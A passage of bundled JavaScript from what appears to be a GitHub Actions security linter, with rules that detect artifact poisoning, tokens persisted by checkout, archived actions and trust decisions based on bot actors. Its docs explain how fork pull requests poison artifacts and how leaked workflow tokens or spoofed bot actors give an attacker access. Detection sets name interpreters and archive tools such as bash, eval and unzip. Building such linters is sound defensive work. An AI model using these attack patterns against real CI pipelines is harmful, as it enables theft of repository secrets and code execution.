  online: false,
  docs: {
    summary: "A `uses:` names an action or reusable workflow whose repository its owner has archived.",
    why: "An archived repository gets no security fixes: when a vulnerability is found in it, or in the runtime or dependencies it bundles, nobody will release a patched version. `actions/create-release` and the `actions-rs/*` actions are still copied into new workflows years after they were abandoned.",
    fix: "Replace the action with its maintained successor (the message names one when there is an obvious one) or with a plain command (`gh release create`, `cargo`, `aws s3 sync`)."
  },
  check({ file, report: report2 }) {
    for (const site of file.uses) {
      const reference = site.reference;
      if (reference.kind !== "remote") continue;
      const archived = archivedAction(reference.owner, reference.repo);
      if (!archived) continue;
      const end = reference.ref === null ? site.value.length : reference.refStart - 1;
      const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
      report2({
        span,
        message: `\`${usesTarget(reference)}\` comes from an archived repository that receives no fixes${archived.replacement ? `; use ${archived.replacement} instead` : ""}`
      });
    }
  }
};

// server/src/rules/artifact-poisoning.ts
var TRIGGERS2 = ["workflow_run", "pull_request_target", "issue_comment"];
var ROOT = /^(\.\/?|\$\{\{\s*github\.workspace\s*\}\}\/?|\$GITHUB_WORKSPACE\/?|)$/;
var EXEC = /* @__PURE__ */ new Set([
  "unzip",
  "tar",
  "7z",
  "bash",
  "sh",
  "source",
  ".",
  "python",
  "python3",
  "node",
  "chmod",
  "dpkg",
  "pip",
  "pip3",
  "npm",
  "eval",
  "expand-archive"
]);
var WORKSPACE_RUNNERS = /* @__PURE__ */ new Set([
  "make",
  "cmake",
  "ninja",
  "just",
  "npm",
  "npx",
  "yarn",
  "pnpm",
  "bun",
  "bunx",
  "deno",
  "cargo",
  "mvn",
  "gradle",
  "ant",
  "tox",
  "nox",
  "pytest",
  "poetry",
  "pdm",
  "hatch",
  "bundle",
  "rake",
  "composer",
  "dotnet",
  "msbuild",
  "pre-commit",
  "prek"
]);
var INTERPRETERS = /* @__PURE__ */ new Set([
  "bash",
  "sh",
  "zsh",
  "source",
  ".",
  "python",
  "python3",
  "py",
  "node",
  "ruby",
  "perl",
  "php",
  "pwsh",
  "powershell"
]);
function workspaceExecution(file, job, scripts, from, after) {
  for (const step of job.steps) {
    if (step.index < from.index) continue;
    const action = step.index > from.index ? stepAction(file, step) : null;
    const uses = step.uses ? scalarText(step.uses.value) ?? "" : "";
    if (step.index > from.index && uses.startsWith("./") && step.uses)
      return { span: step.uses.valueSpan, what: `the local action \`${uses}\`` };
    if (action?.name === "actions/github-script") {
      const script = input(step, "script") ?? "";
      if (/require\(\s*['"`]\.{1,2}\/|import\(\s*['"`]\.{1,2}\//.test(script))
        return { span: action.site.entry.valueSpan, what: "`actions/github-script` loading a workspace file" };
    }
    for (const run2 of scripts) {
      if (run2.step !== step) continue;
      for (const command of run2.script.commands) {
        if (step === from && command.span.start < after) continue;
        const what = runsWorkspace(command);
        if (what) return { span: run2.sourceSpan(command.span), what };
      }
    }
  }
  return null;
}
function runsWorkspace(command) {
  const first = command.argv[0]?.text ?? "";
  if (!first) return null;
  if (first.includes("/") && !/^(\/|~|\$)/.test(first)) return `\`${first}\``;
  if (/^gradlew(\.bat)?$|^mvnw(\.cmd)?$/.test(first)) return `\`${first}\``;
  const name = command.name;
  if (WORKSPACE_RUNNERS.has(name)) return `\`${[name, command.argv[1]?.text].filter(Boolean).join(" ")}\``;
  if (name === "go" && /^(run|build|test|generate|vet|install)$/.test(command.argv[1]?.text ?? "")) return `\`go ${command.argv[1].text}\``;
  if (name === "uv" && /^(run|sync|build|pip)$/.test(command.argv[1]?.text ?? "")) return `\`uv ${command.argv[1].text}\``;
  if ((name === "pip" || name === "pip3") && args(command).some((word) => /^(-r|--requirement|-e|--editable|-c|--constraint)$|^\.|\//.test(word.text)))
    return `\`${name} install\` of workspace files`;
  if (INTERPRETERS.has(name) || name.startsWith("python")) {
    const words2 = args(command);
    if (words2.some((word) => word.text === "-m")) return `\`${name} -m\` (the working directory comes first on \`sys.path\`)`;
    const script = words2.find((word) => !word.text.startsWith("-"));
    if (script && !words2.some((word) => word.text === "-c" || word.text === "-e" || word.text === "--eval" || word.text === "-Command"))
      return `\`${name} ${script.text}\``;
  }
  return null;
}
function checksOut(file, job, scripts) {
  if (job.steps.some((step) => stepAction(file, step)?.name === "actions/checkout")) return true;
  return scripts.some(
    (run2) => run2.script.commands.some(
      (command) => command.name === "git" && (command.argv[1]?.text === "clone" || command.argv[1]?.text === "checkout") || command.name === "gh" && (command.argv[1]?.text === "repo" && command.argv[2]?.text === "clone" || command.argv[1]?.text === "pr" && command.argv[2]?.text === "checkout")
    )
  );
}
var artifactPoisoning = {
  id: "artifact-poisoning",
  title: "Privileged job unpacks or runs artifacts of an untrusted run",
  kinds: ["workflow"],
  severity: "high",
  confidence: "medium",
  persona: "regular",
  online: false,
  docs: {
    summary: "A `workflow_run` (or other privileged) job downloads artifacts of the run that triggered it, which a fork pull request controls, into the workspace root or then extracts or executes them.",
    why: 'Artifacts uploaded by a `pull_request` run contain whatever the pull request wanted. A `workflow_run` job that downloads them into its workspace lets them overwrite scripts, configuration or `node_modules` of the trusted checkout, and then runs them with the repository\'s secrets. GitHub Security Lab documented the pattern ("Keeping your GitHub Actions and workflows secure Part 1", 2021), and CodeQL ships `actions/artifact-poisoning` queries for it.',
    fix: "Download into a fresh directory outside the workspace (`path: ${{ runner.temp }}/artifacts`), treat every file as untrusted data (validate a PR number with a regular expression, never `source` or execute it), and never extract archives over the checkout."
  },
  check({ file, report: report2 }) {
    const workflow = file.workflow;
    if (!workflow) return;
    const triggers = privilegedTriggers(workflow, TRIGGERS2);
    if (triggers.length === 0) return;
    for (const job of workflow.jobs) {
      const scripts = runScriptsOf(file, job);
      const downloads = [];
      for (const step of job.steps) {
        const action = stepAction(file, step);
        if (action?.name === "actions/download-artifact" && (step.with.has("run-id") || step.with.has("github-token"))) {
          const path = input(step, "path");
          downloads.push({
            step,
            span: action.site.entry.valueSpan,
            what: "`actions/download-artifact` with `run-id`",
            path: path === null || ROOT.test(path.trim()) ? null : path.trim(),
            after: Number.POSITIVE_INFINITY
          });
        } else if (action && /^dawidd6\/action-download-artifact$|^bettermarks\/action-artifact-download$|^aochmann\/actions-download-artifact$/.test(
          action.name
        )) {
          const path = input(step, "path");
          downloads.push({
            step,
            span: action.site.entry.valueSpan,
            what: `\`${action.name}\``,
            path: path === null || ROOT.test(path.trim()) ? null : path.trim(),
            after: Number.POSITIVE_INFINITY
          });
        }
        for (const run2 of scripts) {
          if (run2.step !== step) continue;
          for (const command of run2.script.commands) {
            if (command.name === "gh" && command.argv[1]?.text === "run" && command.argv[2]?.text === "download") {
              const dir = flagValue(command, "-D", "--dir");
              downloads.push({
                step,
                span: run2.sourceSpan(command.span),
                what: "`gh run download`",
                path: dir === null || ROOT.test(dir.text) ? null : dir.text,
                after: command.span.end
              });
            }
          }
        }
      }
      let checkout;
      for (const download of downloads) {
        if (download.path === null) {
          const runner = workspaceExecution(file, job, scripts, download.step, download.after);
          checkout ??= checksOut(file, job, scripts);
          if (!runner && !checkout) continue;
          report2({
            span: download.span,
            message: runner ? `${download.what} in \`${triggers[0]}\` job \`${job.id}\` extracts the triggering run's artifacts into the workspace root${checkout ? ", over the trusted checkout," : ""} and ${runner.what} then runs what is there; a fork pull request controls their content` : `${download.what} in \`${triggers[0]}\` job \`${job.id}\` extracts the triggering run's artifacts into the workspace root, over the trusted checkout; no later step is known to run workspace files, but any that reads the checkout reads what a fork pull request put there`,
            confidence: runner ? "medium" : "low",
            persona: runner ? "regular" : "pedantic",
            related: runner ? [{ span: runner.span, message: `${runner.what} runs the files of the workspace` }] : []
          });
          continue;
        }
        const use = laterUse(scripts, download);
        if (!use) continue;
        report2({
          span: download.span,
          message: `${download.what} in \`${triggers[0]}\` job \`${job.id}\` fetches the triggering run's artifacts and ${use.what} them; a fork pull request controls their content`,
          confidence: "medium",
          related: [{ span: use.span, message: `${use.what} the artifact` }]
        });
      }
    }
  }
};
function laterUse(scripts, download) {
  if (download.path === null) return null;
  const dir = trimEndOf(download.path, "/");
  for (const run2 of scripts) {
    if (run2.step.index < download.step.index) continue;
    for (const command of run2.script.commands) {
      const first = command.argv[0]?.text ?? "";
      const runsLocal = /^\.\//.test(first) && first.includes(dir.replace(/^\.\//, ""));
      if (!runsLocal && !(EXEC.has(command.name) && mentions(command, dir))) continue;
      {
        const what = command.name === "unzip" || command.name === "tar" || command.name === "7z" || command.name === "expand-archive" ? "extracts" : "executes";
        return { span: run2.sourceSpan(command.span), what };
      }
    }
  }
  return null;
}
function mentions(command, dir) {
  const needle = dir.replace(/^\.\//, "");
  return needle.length > 0 && (args(command).some((word) => word.text.includes(needle)) || command.argv[0].text.includes(needle));
}

// server/src/fixes/edits.ts
function insertLinesAbove(file, offset, lines) {
  const index = file.lines;
  let line = index.lineAt(offset);
  const indent = index.indentation(line);
  while (line > 0) {
    const above = index.lineText(line - 1);
    if (!/^\s*#/.test(above) || index.indentation(line - 1) !== indent) break;
    line--;
  }
  const eol = index.eol;
  const at = index.lineStarts[line];
  return { span: { start: at, end: at }, newText: lines.map((text) => indent + text + eol).join("") };
}
function appendLines(file, lines) {
  const eol = file.lines.eol;
  const text = file.text;
  const needsBreak = text.length > 0 && !text.endsWith("\n");
  return { span: { start: text.length, end: text.length }, newText: (needsBreak ? eol : "") + lines.map((l) => l + eol).join("") };
}
function indentStep(file) {
  const job = file.workflow?.jobs[0];
  if (job) {
    const indent = file.lines.indentation(file.lines.lineAt(job.idSpan.start));
    if (indent.length > 0 && !indent.includes("	")) return indent;
  }
  return "  ";
}
function applyEdits(text, edits) {
  const sorted = edits.map((edit, index) => ({ edit, index })).sort((a, b) => b.edit.span.start - a.edit.span.start || b.edit.span.end - a.edit.span.end || b.index - a.index).map(({ edit }) => edit);
  let result = text;
  let limit = Infinity;
  for (const edit of sorted) {
    if (edit.span.end > limit) throw new Error("overlapping edits");
    result = result.slice(0, edit.span.start) + edit.newText + result.slice(edit.span.end);
    limit = edit.span.start;
  }
  return result;
}

// server/src/fixes/step-inputs.ts
function setStepInput(file, step, name, value) {
  const lines = file.lines;
  const eol = lines.eol;
  const withEntry = step.get("with");
  const existing = step.with.get(name);
  if (existing) {
    if (existing.value && !("value" in existing.value)) return null;
    return [
      {
        span: existing.valueSpan.end > existing.valueSpan.start ? existing.valueSpan : { start: existing.keySpan.end + 1, end: existing.keySpan.end + 1 },
        newText: existing.valueSpan.end > existing.valueSpan.start ? value : ` ${value}`
      }
    ];
  }
  const stepMap = step.map;
  if (!stepMap || stepMap.flow) return null;
  if (withEntry && withEntry.value && isMap(withEntry.value)) {
    const map2 = withEntry.value;
    const first = step.with.entries[0];
    if (map2.flow) {
      const end = withEntry.valueSpan.end;
      if (file.text[end - 1] !== "}") return null;
      const last = step.with.entries[step.with.entries.length - 1];
      if (!last) return [{ span: { start: end - 1, end: end - 1 }, newText: `${name}: ${value}` }];
      const at2 = Math.max(last.valueSpan.end, last.keySpan.end);
      return [{ span: { start: at2, end: at2 }, newText: `, ${name}: ${value}` }];
    }
    if (!first) return null;
    const line = lines.lineAt(first.keySpan.start);
    const column2 = first.keySpan.start - lines.lineStarts[line];
    if (lines.lineText(line).slice(0, column2).trim() !== "") return null;
    let at = line;
    const indent2 = " ".repeat(column2);
    while (at > 0 && /^\s*#/.test(lines.lineText(at - 1)) && lines.indentation(at - 1) === indent2) at--;
    return [{ span: { start: lines.lineStarts[at], end: lines.lineStarts[at] }, newText: `${indent2}${name}: ${value}${eol}` }];
  }
  if (withEntry && !isNullValue(withEntry.value)) return null;
  const anchor = withEntry ?? step.uses ?? step.entries[0];
  if (!anchor) return null;
  const anchorLine = lines.lineAt(anchor.keySpan.start);
  const column = anchor.keySpan.start - lines.lineStarts[anchorLine];
  const unit = indentStep(file);
  const indent = " ".repeat(column);
  if (withEntry) {
    const lineEnd2 = lines.lineContentEnd(anchorLine);
    const after = file.text.slice(withEntry.keySpan.end, lineEnd2);
    if (!/^:\s*(#.*)?$/.test(after)) return null;
    return [{ span: { start: lineEnd2, end: lineEnd2 }, newText: `${eol}${indent}${unit}${name}: ${value}` }];
  }
  const valueEnd = Math.max(anchor.valueSpan.end, anchor.keySpan.end);
  const endLine = lines.lineAt(valueEnd);
  const lineEnd = lines.lineContentEnd(endLine);
  if (file.text.slice(valueEnd, lineEnd).trim() !== "" && !/^\s*#/.test(file.text.slice(valueEnd, lineEnd))) return null;
  return [{ span: { start: lineEnd, end: lineEnd }, newText: `${eol}${indent}with:${eol}${indent}${unit}${name}: ${value}` }];
}

// server/src/rules/artipacked.ts
var UPLOADERS = ["actions/upload-artifact", "actions/upload-pages-artifact", "actions/cache", "actions/cache/save"];
var PUSHERS = [
  "stefanzweifel/git-auto-commit-action",
  "ad-m/github-push-action",
  "ec-nantes/push-action",
  "endbug/add-and-commit",
  "github-actions-x/commit",
  "changesets/action",
  "peter-evans/create-pull-request",
  "cpina/github-action-push-to-another-repository"
];
function uploadsWorkspace(file, step) {
  if (!stepUses(file, step, ...UPLOADERS)) return false;
  const path = input(step, "path");
  if (path === null) return false;
  return path.split(/\r?\n/).some((line) => {
    const item = line.trim().replace(/^['"]|['"]$/g, "");
    return /^(\.{1,2}\/?|\$\{\{\s*github\.workspace\s*\}\}\/?|\$GITHUB_WORKSPACE\/?|\*\*?|\.\/\*\*?)$/.test(item);
  });
}
function gitRemoteSteps(file) {
  const steps = /* @__PURE__ */ new Set();
  for (const run2 of runScripts(file)) {
    if (run2.script.commands.some(
      (command) => command.name === "git" && command.argv.some((word) => word.text === "push" || word.text === "fetch" || word.text === "pull")
    ))
      steps.add(run2.step);
  }
  return steps;
}
var LaterSteps = class {
  constructor(file, steps, gitSteps) {
    this.file = file;
    this.steps = steps;
    this.gitSteps = gitSteps;
  }
  file;
  steps;
  gitSteps;
  uploads;
  pushes;
  uploadAfter(index) {
    if (!this.uploads) {
      this.uploads = new Array(this.steps.length);
      let next;
      for (let i = this.steps.length - 1; i >= 0; i--) {
        this.uploads[i] = next;
        if (uploadsWorkspace(this.file, this.steps[i])) next = this.steps[i];
      }
    }
    return this.uploads[index];
  }
  pushAfter(index) {
    if (!this.pushes) {
      const git = this.gitSteps();
      this.pushes = new Array(this.steps.length);
      let later = false;
      for (let i = this.steps.length - 1; i >= 0; i--) {
        this.pushes[i] = later;
        const step = this.steps[i];
        if (git.has(step) || stepUses(this.file, step, ...PUSHERS)) later = true;
      }
    }
    return this.pushes[index];
  }
};
var LOWER = { high: "medium", medium: "low", low: "informational", informational: "informational" };
var artipacked = {
  id: "artipacked",
  title: "Checkout leaves the token in .git/config",
  kinds: ["workflow", "action"],
  severity: "medium",
  confidence: "low",
  persona: "regular",
  online: false,
  docs: {
    summary: "`actions/checkout` without `persist-credentials: false` writes the job's token into the checkout, where every later step, and every artifact of the workspace, can read it.",
    why: 'In "ArtiPACKED" (Palo Alto Unit 42, 2024) public repositories of Google, Microsoft, AWS, Red Hat and others uploaded their whole workspace as an artifact: `.git/config` inside it held the `GITHUB_TOKEN` (and sometimes a PAT) that `actions/checkout` had persisted, and anyone could download the artifact and race the job to use the token. Astral sets `persist-credentials: false` on every checkout (uv: 132 of 132).',
    fix: "Add `persist-credentials: false` under the checkout's `with:`. A later step that really needs to push can pass the token explicitly (e.g. `git push https://x-access-token:${GH_TOKEN}@github.com/...` with `GH_TOKEN` in that step's `env:`)."
  },
  check({ file, report: report2 }) {
    let gitSteps;
    const gitRemote = () => gitSteps ??= gitRemoteSteps(file);
    const laterOf = /* @__PURE__ */ new Map();
    for (const { step, steps } of allSteps(file)) {
      const action = stepUses(file, step, "actions/checkout");
      if (!action) continue;
      const persist = step.with.get("persist-credentials");
      const value = persist ? input(step, "persist-credentials") : null;
      let later = laterOf.get(steps);
      if (!later) laterOf.set(steps, later = new LaterSteps(file, steps, gitRemote));
      const upload = later.uploadAfter(step.index);
      const major = actionMajorVersion(file, action);
      const modern = major !== null && major >= 6;
      const span = action.site.entry.valueSpan;
      const related2 = upload ? [{ span: upload.uses.valueSpan, message: "uploads the workspace, .git/config included" }] : [];
      if (value !== null && value.trim().toLowerCase() === "false") continue;
      if (value !== null && value.trim().toLowerCase() === "true") {
        report2({
          span: persist.valueSpan,
          message: `\`persist-credentials: true\` keeps the token in the checkout for every later step${upload ? ", and a later step uploads the workspace" : ""}`,
          severity: upload ? "high" : "low",
          confidence: upload ? "high" : "medium",
          persona: upload ? "regular" : "auditor",
          related: related2
        });
        continue;
      }
      if (value !== null) {
        report2({
          span: persist.valueSpan,
          message: "`persist-credentials` is computed; when it is true the token stays in .git/config",
          severity: "low",
          confidence: "low",
          persona: "pedantic",
          related: related2
        });
        continue;
      }
      let severity = upload ? "high" : "medium";
      if (modern) severity = LOWER[severity];
      const pushes = !upload && later.pushAfter(step.index);
      const where = modern ? "a credentials file the git config points to" : "`.git/config`";
      report2({
        span,
        message: upload ? `\`${action.site.value}\` persists the token in ${where} and a later step uploads the workspace: anyone who can download the artifact gets the token` : pushes ? `\`${action.site.value}\` persists the token in ${where}; a later step pushes with it. Prefer \`persist-credentials: false\` and pass the token to that step only` : `\`${action.site.value}\` persists the token in ${where}, readable by every later step; add \`persist-credentials: false\``,
        severity: pushes ? "low" : severity,
        confidence: upload ? "high" : "low",
        persona: pushes ? "pedantic" : "regular",
        related: related2,
        fixes: () => {
          const edits = setStepInput(file, step, "persist-credentials", "false");
          return edits ? [{ title: "Add `persist-credentials: false`", isPreferred: true, safety: "unsafe", edits }] : [];
        }
      });
    }
  }
};

// server/src/rules/support/evaluated-expressions.ts
function conditions(file) {
  const found = [];
  if (file.workflow) {
    for (const job of file.workflow.jobs) {
      if (job.if) found.push({ entry: job.if, owner: `job \`${job.id}\`` });
      for (const step of job.steps) if (step.if) found.push({ entry: step.if, owner: `step \`${step.label}\` of job \`${job.id}\`` });
    }
  }
  if (file.action) {
    for (const step of file.action.steps) if (step.if) found.push({ entry: step.if, owner: `step \`${step.label}\`` });
  }
  return found;
}
function conditionEntries(file) {
  return conditions(file).map((condition) => condition.entry);
}
function evaluatedExpressions(file) {
  let cached = evaluatedCache.get(file);
  if (!cached) evaluatedCache.set(file, cached = computeEvaluatedExpressions(file));
  return cached;
}
var evaluatedCache = new AttachedCache("evaluated-expressions", attachmentsOf);
var Evaluated = class {
  constructor(span, text, relative4, shift, exact, isCondition, fence) {
    this.span = span;
    this.text = text;
    this.relative = relative4;
    this.shift = shift;
    this.exact = exact;
    this.isCondition = isCondition;
    this.fence = fence;
  }
  span;
  text;
  relative;
  shift;
  exact;
  isCondition;
  fence;
  shifted;
  get tree() {
    return this.relative.ast;
  }
  get parsed() {
    return this.shifted ??= this.shift();
  }
};
function computeEvaluatedExpressions(file) {
  const result = [];
  const entries = conditionEntries(file);
  const conditionScalars = new Set(entries.map((entry) => entry.value));
  for (const site of file.expressions) {
    const occurrence = site.occurrence;
    if (!occurrence.terminated || !occurrence.parsed.ast) continue;
    const exact = file.text.slice(occurrence.innerStart, occurrence.innerEnd) === occurrence.text;
    result.push(
      new Evaluated(
        { start: occurrence.innerStart, end: occurrence.innerEnd },
        occurrence.text,
        occurrence.parsed,
        () => absoluteParse(occurrence),
        exact,
        conditionScalars.has(site.scalar),
        { start: occurrence.start, end: occurrence.end }
      )
    );
  }
  for (const entry of entries) {
    const scalar = asScalar(entry.value);
    if (!scalar || typeof scalar.value !== "string" || scalar.value.includes("${{")) continue;
    const text = scalar.value;
    if (text.trim() === "") continue;
    const offset = valueOffsetInSource(scalar, file.text);
    const parsed = parseExpression(text);
    if (!parsed.ast) continue;
    const start = offset ?? entry.valueSpan.start;
    result.push(
      new Evaluated(
        offset !== null ? { start, end: start + text.length } : entry.valueSpan,
        text,
        parsed,
        () => shiftParsed(parsed, start),
        offset !== null,
        true,
        null
      )
    );
  }
  return result;
}
function walkFencedExpressions(file, visit3) {
  for (const site of file.expressions) {
    const ast = site.occurrence.terminated ? site.occurrence.parsed.ast : null;
    if (!ast) continue;
    const base2 = site.occurrence.innerStart;
    walkExpression(ast, (node) => visit3(node, { start: base2 + node.start, end: base2 + node.end }));
  }
}

// server/src/rules/bot-conditions.ts
var LOGIN_PATHS = /* @__PURE__ */ new Set([
  "github.actor",
  "github.triggering_actor",
  "github.event.sender.login",
  "github.event.pull_request.sender.login"
]);
var ID_PATHS = /* @__PURE__ */ new Set([
  "github.actor_id",
  "github.triggering_actor_id",
  "github.event.sender.id",
  "github.event.pull_request.sender.id"
]);
var BOT_IDS = /* @__PURE__ */ new Set(["49699333", "27856297", "29139614", "29110"]);
var AUTHOR_FIELDS = {
  pull_request: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
  pull_request_target: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
  pull_request_review: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
  pull_request_review_comment: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
  issues: { login: "github.event.issue.user.login", id: "github.event.issue.user.id" }
};
function unwrap(node) {
  while (node.type === "group") node = node.expr;
  return node;
}
function actorPath(node) {
  const inner = unwrap(node);
  const path = contextPath(inner, { caseInsensitive: true });
  if (!path) return null;
  if (LOGIN_PATHS.has(path)) return { path, kind: "login", node: inner };
  if (ID_PATHS.has(path)) return { path, kind: "id", node: inner };
  return null;
}
function isBotLiteral(node, kind) {
  const inner = unwrap(node);
  if (inner.type !== "literal") return null;
  if (kind === "login") return inner.kind === "string" && /\[bot\]$/i.test(String(inner.value).trim()) ? String(inner.value) : null;
  return (inner.kind === "number" || inner.kind === "string") && BOT_IDS.has(String(inner.value).trim()) ? String(inner.value) : null;
}
var HEAD_REPOSITORY_PATHS = /* @__PURE__ */ new Set([
  "github.event.pull_request.head.repo.full_name",
  "github.event.workflow_run.head_repository.full_name"
]);
var HEAD_FORK_PATHS = /* @__PURE__ */ new Set(["github.event.pull_request.head.repo.fork", "github.event.workflow_run.head_repository.fork"]);
var AUTHOR_LOGINS = new Set(Object.values(AUTHOR_FIELDS).map((field) => field.login));
var AUTHOR_IDS = new Set(Object.values(AUTHOR_FIELDS).map((field) => field.id));
function pathOf(node) {
  return contextPath(unwrap(node), { caseInsensitive: true });
}
function originTest(node) {
  const inner = unwrap(node);
  if (inner.type === "unary") {
    const negated = originTest(inner.operand);
    return negated === "fork" ? "same" : null;
  }
  const bare = pathOf(inner);
  if (bare && HEAD_FORK_PATHS.has(bare)) return "fork";
  if (inner.type !== "binary" || inner.op !== "==" && inner.op !== "!=") return null;
  const equal = inner.op === "==";
  for (const [a, b] of [
    [inner.left, inner.right],
    [inner.right, inner.left]
  ]) {
    const path = pathOf(a);
    if (!path) continue;
    const other = unwrap(b);
    if (HEAD_REPOSITORY_PATHS.has(path) && pathOf(other) === "github.repository") return equal ? "same" : "fork";
    if (HEAD_FORK_PATHS.has(path) && other.type === "literal" && other.kind === "boolean")
      return other.value === true === equal ? "fork" : "same";
    if (equal && AUTHOR_LOGINS.has(path) && isBotLiteral(other, "login")) return "same";
    if (equal && AUTHOR_IDS.has(path) && isBotLiteral(other, "id")) return "same";
  }
  return null;
}
function chain(node, op) {
  const inner = unwrap(node);
  return inner.type === "binary" && inner.op === op ? [...chain(inner.left, op), ...chain(inner.right, op)] : [inner];
}
function matchOf(node) {
  if (node.type === "binary" && node.op === "==") {
    for (const [a, b] of [
      [node.left, node.right],
      [node.right, node.left]
    ]) {
      const actor = actorPath(a);
      const bot = actor ? isBotLiteral(b, actor.kind) : null;
      if (actor && bot) return { node, actor, bot };
    }
    return null;
  }
  if (node.type === "call" && node.args.length === 2) {
    const name = node.name.toLowerCase();
    if (name === "endswith" || name === "startswith") {
      const actor = actorPath(node.args[0]);
      const literal = unwrap(node.args[1]);
      if (actor?.kind === "login" && literal.type === "literal" && literal.kind === "string" && /bot/i.test(String(literal.value)))
        return { node, actor, bot: String(literal.value) };
    }
    if (name === "contains") {
      const actor = actorPath(node.args[1]);
      if (!actor) return null;
      let bot = null;
      walkExpression(node.args[0], (inner) => {
        if (inner.type === "literal" && (inner.kind === "string" || inner.kind === "number")) {
          const value = String(inner.value);
          if (actor.kind === "login" && /\[bot\]/i.test(value) || actor.kind === "id" && [...BOT_IDS].some((id) => value.includes(id)))
            bot = value;
        }
      });
      if (bot) return { node, actor, bot };
    }
  }
  return null;
}
var botConditions = {
  id: "bot-conditions",
  title: "Condition trusts the actor because it is a bot",
  kinds: ["workflow"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "An `if:` compares `github.actor`, `github.triggering_actor` or `github.event.sender.login` (or their ids) with a bot such as `dependabot[bot]` to decide that a run is trustworthy.",
    why: "`github.actor` is whoever caused the latest event, not who wrote the pull request. On `pull_request_target` an attacker can open a pull request and get Dependabot to act on it (for example by having it update a branch of their fork), so the latest event's actor is `dependabot[bot]` and the step meant for Dependabot's own pull requests (auto-merge, secrets, a write token) runs for the attacker's code.",
    fix: "Check who opened the pull request instead: `github.event.pull_request.user.login == 'dependabot[bot]'` (the quick fix does this when the workflow has a single pull request or issue trigger), and for Dependabot use `dependabot/fetch-metadata`."
  },
  check({ file, report: report2 }) {
    if (!file.workflow) return;
    const triggers = scopeTriggers(file);
    const outsider = triggers ? triggers.filter((trigger) => triggerInfo(trigger)?.outsiderCanFire) : [];
    const single = triggers && triggers.length === 1 ? AUTHOR_FIELDS[triggers[0]] : void 0;
    for (const expression of evaluatedExpressions(file)) {
      if (!expression.isCondition || !/actor|sender/i.test(expression.text)) continue;
      const ast = expression.parsed.ast;
      if (!ast) continue;
      const matches2 = [];
      walkExpression(ast, (node) => {
        const match = matchOf(node);
        if (match) {
          matches2.push(match);
          return false;
        }
        return void 0;
      });
      if (matches2.length === 0) continue;
      const parents = /* @__PURE__ */ new Map();
      walkExpression(ast, (node, parent) => {
        parents.set(node, parent);
      });
      for (const match of matches2) {
        let dominating = true;
        let negated = false;
        for (let up = parents.get(match.node) ?? null; up; up = parents.get(up) ?? null) {
          if (up.type === "unary") negated = !negated;
          else if (up.type === "binary" && up.op === "||") continue;
          else if (up.type !== "group") dominating = false;
        }
        if (negated) continue;
        let origin = null;
        for (let child = match.node, up = parents.get(match.node) ?? null; up && !origin; child = up, up = parents.get(up) ?? null) {
          if (up.type !== "binary" || up.op !== "&&" && up.op !== "||") continue;
          const sibling = up.left === child ? up.right : up.left;
          const tests = chain(sibling, up.op).map(originTest);
          if (up.op === "&&" && tests.includes("same")) origin = "same";
          if (up.op === "||" && tests.includes("fork")) origin = "fork";
        }
        if (origin) continue;
        const actorText = match.actor.path;
        let fixes = [];
        if (single && expression.exact) {
          const replacement = match.actor.kind === "login" ? single.login : single.id;
          fixes = [
            {
              title: `Compare the author, \`${replacement}\`, instead of \`${actorText}\``,
              isPreferred: true,
              safety: "safe",
              edits: [{ span: { start: match.actor.node.start, end: match.actor.node.end }, newText: replacement }]
            }
          ];
        }
        const severity = triggers === null ? "medium" : outsider.length > 0 ? "high" : "low";
        const why = outsider.length > 0 ? `on ${outsider.map((t) => `\`${t}\``).join(", ")} an attacker can make a bot the actor of an event on their own ${outsider.some((t) => t.startsWith("pull_request") || t === "workflow_run") ? "pull request" : "issue or pull request"}` : triggers === null ? "the caller's event decides who the actor is" : "the actor is whoever caused the latest event, not who wrote the code";
        report2({
          span: { start: match.node.start, end: match.node.end },
          message: `\`${actorText}\` is checked against \`${match.bot}\`: ${why}, so this condition ${dominating ? "passes" : "can pass"} for their code${single ? `; compare \`${match.actor.kind === "login" ? single.login : single.id}\` instead` : ""}`,
          severity,
          confidence: dominating ? "high" : "medium",
          persona: severity === "low" ? "pedantic" : "regular",
          fixes
        });
      }
    }
  }
};

// server/src/knowledge/cache-actions.ts
var always = () => true;
var never = () => false;
var CACHE_ACTIONS = [
  {
    name: "actions/cache",
    input: null,
    defaultOn: always,
    semantics: "truthy",
    off: null,
    source: "actions/cache action.yml (lookup-only only skips the download)"
  },
  {
    name: "actions/cache/restore",
    input: null,
    defaultOn: always,
    semantics: "truthy",
    off: null,
    source: "actions/cache restore/action.yml",
    mode: "restore"
  },
  {
    name: "actions/cache/save",
    input: null,
    defaultOn: always,
    semantics: "truthy",
    off: null,
    source: "actions/cache save/action.yml",
    mode: "save"
  },
  {
    name: "actions/setup-node",
    input: "cache",
    // v5 caches npm automatically when package.json has a `packageManager` field (`package-manager-cache`, default true).
    defaultOn: (major) => major !== null && major >= 5 ? "conditional" : false,
    semantics: "nonempty",
    off: { remove: true, orSet: { input: "package-manager-cache", value: "false" } },
    autoInput: { input: "package-manager-cache", since: 5 },
    source: "actions/setup-node action.yml and README at v5.0.0 (`package-manager-cache`, default true: caches when package.json has a `packageManager` field), v6.0.0 and v7.0.0 (npm only: `packageManager` or `devEngines.packageManager` naming npm)"
  },
  {
    name: "actions/setup-python",
    input: "cache",
    defaultOn: never,
    semantics: "nonempty",
    off: { remove: true },
    source: "actions/setup-python action.yml"
  },
  {
    name: "actions/setup-java",
    input: "cache",
    defaultOn: never,
    semantics: "nonempty",
    off: { remove: true },
    source: "actions/setup-java action.yml"
  },
  {
    name: "actions/setup-dotnet",
    input: "cache",
    defaultOn: never,
    semantics: "truthy",
    off: { set: "false" },
    source: "actions/setup-dotnet action.yml"
  },
  {
    name: "actions/setup-go",
    input: "cache",
    defaultOn: (major) => major === null || major >= 4,
    semantics: "truthy",
    off: { set: "false" },
    source: "actions/setup-go action.yml (default true since v4)"
  },
  {
    name: "astral-sh/setup-uv",
    input: "enable-cache",
    defaultOn: (major) => major === null || major >= 6,
    semantics: "truthy",
    off: { set: "false" },
    source: "astral-sh/setup-uv action.yml (`auto`, the default since v6: on for GitHub-hosted runners)"
  },
  { name: "swatinem/rust-cache", input: null, defaultOn: always, semantics: "truthy", off: null, source: "Swatinem/rust-cache README" },
  {
